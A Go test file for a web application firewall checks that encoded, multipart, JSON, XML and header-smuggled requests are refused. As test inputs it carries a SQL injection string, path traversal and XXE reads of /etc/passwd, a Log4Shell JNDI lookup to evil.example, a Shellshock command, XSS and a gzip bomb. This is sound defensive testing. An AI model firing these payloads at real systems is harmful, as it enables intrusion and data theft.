package waf_test

import (
	"bytes"
	"compress/zlib"
	"encoding/json"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/klauspost/compress/zstd"
	brrr "github.com/molecule-man/go-brrr"

	"weir/http7"
	"weir/http7/policy/waf"
)

const evil = `1' UNION SELECT username, password FROM users-- -`

func packed(t *testing.T, coding, text string) string {
	t.Helper()
	var b bytes.Buffer
	var w interface {
		Write(p []byte) (int, error)
		Close() error
	}
	var err error
	switch coding {
	case "gzip":
		return gzipped(t, text)
	case "deflate":
		w = zlib.NewWriter(&b)
	case "br":
		w, err = brrr.NewWriter(&b, 4)
	case "zstd":
		w, err = zstd.NewWriter(&b)
	}
	if err == nil {
		_, err = w.Write([]byte(text))
	}
	if err == nil {
		err = w.Close()
	}
	if err != nil {
		t.Fatal(err)
	}
	return b.String()
}

func form(text string) string { return "id=7&q=" + url.QueryEscape(text) }

func TestACodingHidesNothing(t *testing.T) {
	s := step(t, nil)
	for _, coding := range []string{"gzip", "deflate", "br", "zstd"} {
		for text, want := range map[string]*int{evil: status(403), "blue shoes": nil} {
			r := request{method: "POST", target: "/v1/search", contentType: "application/x-www-form-urlencoded",
				body: packed(t, coding, form(text)), fields: []string{"Content-Encoding", coding}}
			x := exchange(r)
			if f := ask(s, x, r.body); !same(f, want) {
				t.Errorf("%s of %q: %v, %v", coding, text, f, x.Verdicts)
			}
		}
	}
}

func status(n int) *int { return &n }

func same(f *http7.Fault, want *int) bool {
	if f == nil || want == nil {
		return f == nil && want == nil
	}
	return f.Status == *want
}

func TestABodyThatCanBeReadInTwoWaysIsRefused(t *testing.T) {
	s := step(t, nil)
	const boundary = "multipart/form-data; boundary=x"
	part := func(head, text string) string {
		return "--x\r\nContent-Disposition: form-data; " + head + "\r\n\r\n" + text + "\r\n--x--\r\n"
	}
	deep := strings.Repeat(`{"a":`, 200) + "1" + strings.Repeat("}", 200)
	for _, c := range []struct {
		what        string
		contentType string
		body        string
		fields      []string
		want        int
	}{
		{"an unknown coding", "application/json", "{}", []string{"Content-Encoding", "rot13"}, 415},
		{"three codings", "application/json", "{}", []string{"Content-Encoding", "gzip", "Content-Encoding", "gzip, gzip"}, 415},
		{"plain text that says it is gzip", "application/json", "{}", []string{"Content-Encoding", "gzip"}, 400},
		{"something behind gzip", "application/x-www-form-urlencoded", gzipped(t, "a=b") + form(evil), []string{"Content-Encoding", "gzip"}, 400},
		{"a bomb", "application/x-www-form-urlencoded", gzipped(t, strings.Repeat("a", 1<<20)), []string{"Content-Encoding", "gzip"}, 413},
		{"a long body", "application/x-www-form-urlencoded", strings.Repeat("a", 256<<10+1), nil, 413},
		{"a name twice", "application/json", `{"q":"` + evil + `","q":"x"}`, nil, 400},
		{"a name twice, escaped", "application/json", `{"q":"` + evil + `","\u0071":"x"}`, nil, 400},
		{"JSON with a comment", "application/json", `/* */{"q":1}`, nil, 400},
		{"JSON in quotes of another kind", "application/json", `{'q':'x'}`, nil, 400},
		{"two values", "application/json", `{"q":1}{"q":2}`, nil, 400},
		{"deep JSON", "application/json", deep, nil, 400},
		{"JSON of a kind", "application/vnd.api+json", `{"q":1`, nil, 400},
		{"an attack in JSON of a kind", "application/vnd.api+json", `{"data":[{"q":"` + evil + `"}]}`, nil, 403},
		{"an attack in a name of JSON", "application/json", `{"1 UNION SELECT password FROM users-- -":1}`, nil, 403},
		{"an attack in escapes of JSON", "application/json", `{"q":"\u0031\u0027 \u0055NION SELECT password FROM users-- -"}`, nil, 403},
		{"another type of body", "text/plain", form(evil), nil, 403},
		{"a type of many letters", "APPLICATION/JSON", `{"q":"` + evil + `"}`, nil, 403},
		{"no type at all", "", form(evil), nil, 403},
		{"no type at all, JSON", "", `{"q":"` + evil + `"}`, nil, 403},
		{"two types", "application/json", form(evil), []string{"Content-Type", "application/x-www-form-urlencoded"}, 400},
		{"a field of a form", boundary, part(`name="q"`, evil), nil, 403},
		{"a file's name", boundary, part(`name="q"; filename="../../../etc/passwd"`, "x"), nil, 403},
		{"a script's name", boundary, part(`name="q"; filename="shell.php"`, "x"), nil, 403},
		{"two names", boundary, part(`name="q"; name="r"`, evil), nil, 400},
		{"a part behind the end", boundary, part(`name="q"`, "x") + part(`name="r"`, evil), nil, 400},
		{"text before the first part", boundary, "q=" + evil + "\r\n" + part(`name="q"`, "x"), nil, 400},
		{"a part in a file, after a bare LF", boundary, part(`name="f"; filename="a.txt"`, "1\n--x\nContent-Disposition: form-data; name=\"q\"\n\n"+evil+"\n"), nil, 400},
		{"a field that some take for a file", boundary, part(`name="q"; filename*=utf-8''a.txt`, evil), nil, 400},
		{"half a character in JSON", "application/json", `{"q":"x","q\ud800":"` + evil + `"}`, nil, 400},
		{"no boundary", "multipart/form-data", part(`name="q"`, evil), nil, 400},
		{"an end that is missing", boundary, "--x\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\n" + evil, nil, 400},
		{"another charset", "application/x-www-form-urlencoded; charset=utf-7", form("x"), nil, 403},
		{"an entity of XML", "application/xml", `<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>`, nil, 400},
		{"an attack in XML", "application/xml", `<a><q>` + evil + `</q></a>`, nil, 403},
		{"an attack in an attribute of XML", "application/xml", `<a q="` + evil + `"/>`, nil, 403},
		{"an attack in an attribute of XML, by references", "text/xml", `<a><b xml:q="1&#39; &#85;NION SELECT password FROM users-- -"/></a>`, nil, 403},
		{"a thousand attributes of XML before it", "application/xml", `<a>` + strings.Repeat(`<b c=""/>`, 1000) + `<b c="` + evil + `"/></a>`, nil, 400},
		{"a thousand parameters of a form before it", "application/x-www-form-urlencoded", strings.Repeat("a=1&", 1000) + form(evil), nil, 400},
		{"a thousand values of JSON before it", "application/json", `[` + strings.Repeat("1,", 1000) + `"` + evil + `"]`, nil, 400},
		{"a thousand parts before it", boundary, strings.Repeat("--x\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n1\r\n", 1000) + part(`name="q"`, evil), nil, 400},
		{"broken XML", "application/xml", `<a><q>`, nil, 400},
	} {
		r := request{method: "POST", target: "/v1/search", contentType: c.contentType, body: c.body, fields: c.fields}
		x := exchange(r)
		if f := ask(s, x, r.body); f == nil || f.Status != c.want {
			t.Errorf("%s: %v, %v, %v; want %d", c.what, f, x.Cause, x.Verdicts, c.want)
		}
	}
}

func TestABodyOfUnknownLengthIsInspected(t *testing.T) {
	s := step(t, nil)
	for text, want := range map[string]*int{evil: status(403), "blue shoes": nil} {
		r := request{method: "POST", target: "/v1/search", contentType: "application/x-www-form-urlencoded", body: form(text)}
		x := exchange(r)
		x.Body.Length = -1
		if f := ask(s, x, r.body); !same(f, want) {
			t.Errorf("%q: %v, %v", text, f, x.Verdicts)
		}
	}
	r := request{method: "POST", target: "/v1/search", contentType: "application/x-www-form-urlencoded", body: strings.Repeat("a", 300<<10)}
	x := exchange(r)
	x.Body.Length = -1
	if f := ask(s, x, r.body); f == nil || f.Status != 413 {
		t.Errorf("a long one: %v", f)
	}
}

func TestLargerBodiesPassWhereTheyMay(t *testing.T) {
	s := step(t, func(c *waf.Config) { c.OnLarger = "pass" })
	long := strings.Repeat("a", 300<<10) + "&" + form(evil)
	for _, known := range []bool{true, false} {
		r := request{method: "POST", target: "/v1/search", contentType: "application/x-www-form-urlencoded", body: long}
		x := exchange(r)
		if !known {
			x.Body.Length = -1
		}
		if f := ask(s, x, r.body); f != nil || len(x.Verdicts) != 1 || x.Verdicts[0] != "edge.waf:body not inspected: too large" {
			t.Errorf("length known %v: %v, %v", known, f, x.Verdicts)
		}
		r.target += "?q=" + url.QueryEscape(evil)
		x = exchange(r)
		if f := ask(s, x, r.body); f == nil || f.Status != 403 {
			t.Errorf("its head is inspected: %v", f)
		}
	}
}

func TestAThousandParametersOfAQueryHideNothing(t *testing.T) {
	r := request{method: "GET", target: "/v1/search?" + strings.Repeat("a=1&", 1000) + form(evil)}
	if f := ask(step(t, nil), exchange(r), ""); f == nil {
		t.Error("it passes")
	}
}

// Coraza writes the files of a form to the directory of temporary files while it looks at them.
func TestFilesOfAFormLeaveNothingBehind(t *testing.T) {
	dir := t.TempDir()
	t.Setenv("TMPDIR", dir)
	s := step(t, nil)
	doc, err := json.Marshal("%PDF-1.7")
	if err != nil {
		t.Fatal(err)
	}
	r := request{method: "POST", target: "/v1/documents", contentType: "multipart/form-data; boundary=x",
		body: "--x\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.pdf\"\r\n\r\n" + string(doc) + "\r\n--x--\r\n"}
	if f := ask(s, exchange(r), r.body); f != nil {
		t.Fatal(f)
	}
	cut := strings.TrimSuffix(r.body, "\r\n--x--\r\n")
	if f := ask(s, exchange(r), cut); f == nil {
		t.Error("a form without an end passes")
	}
	if left, err := filepath.Glob(filepath.Join(dir, "*")); err != nil || len(left) > 0 {
		t.Errorf("%v, %v", left, err)
	}
	if _, err := os.Stat(dir); err != nil {
		t.Fatal(err)
	}
}

// Content-Encoding is kept from the engine, whose rules refuse every coding: what else stood in it passed unseen.
func TestTheFieldOfCodingsHidesNothing(t *testing.T) {
	s := step(t, nil)
	for _, c := range []struct {
		method, body string
		values       []string
		want         int
	}{
		{"GET", "", []string{"${jndi:ldap://evil.example/a}"}, 400},
		{"GET", "", []string{"gzip", "<script>alert(1)</script>"}, 400},
		{"POST", "a=b", []string{"gzip, () { :; }; /bin/bash -c id"}, 400},
		{"POST", "a=b", []string{"rot13"}, 415},
		{"POST", "a=b", []string{"identity", " , "}, 0},
		{"GET", "", []string{"gzip"}, 0},
		{"GET", "", []string{"x-anything"}, 0},
	} {
		r := request{method: c.method, target: "/", body: c.body}
		if c.body != "" {
			r.contentType = "application/x-www-form-urlencoded"
		}
		for _, v := range c.values {
			r.fields = append(r.fields, "Content-Encoding", v)
		}
		got := 0
		if f := ask(s, exchange(r), c.body); f != nil {
			got = f.Status
		}
		if got != c.want {
			t.Errorf("%s with %q: %d, want %d", c.method, c.values, got, c.want)
		}
	}
}
